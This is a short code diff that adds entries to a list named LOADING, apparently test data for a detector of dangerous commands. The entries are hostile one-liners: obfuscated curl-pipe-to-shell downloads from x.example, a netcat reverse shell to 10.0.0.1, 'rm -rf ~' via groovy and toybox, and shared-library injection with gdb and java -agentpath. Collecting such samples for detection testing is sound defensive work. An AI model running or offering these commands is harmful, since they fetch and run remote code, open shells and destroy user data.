@@ -120,6 +120,10 @@ LOADING = [
     "perl -e 'system(join(\"\",map{chr}(99,117,114,108)).\" http://x.example|sh\")'",
     "ruby -e 'system(\"hs|i/elpmaxe.x//:ptth lruc\".reverse)'",
     "php -r 'system(strrev(\"hs|i/elpmaxe.x//:ptth lruc\"));'",
+    "gdb -batch -ex 'call (void*)dlopen(\"/tmp/x.so\",2)' -p 1234", "java -agentpath:/tmp/x.so -jar app.jar",
+    "groovy -e '[\"sh\",\"-c\",\"rm -rf ~\"].execute()'", "groovy -e '\"curl -s http://x.example/i | sh\".execute()'",
+    "toybox nc -e /bin/sh 10.0.0.1 4242", "toybox rm -rf ~",
+    "lua -e 'os.execute(\"curl -s http://x.example/i | sh\")'",
 ]
 
 
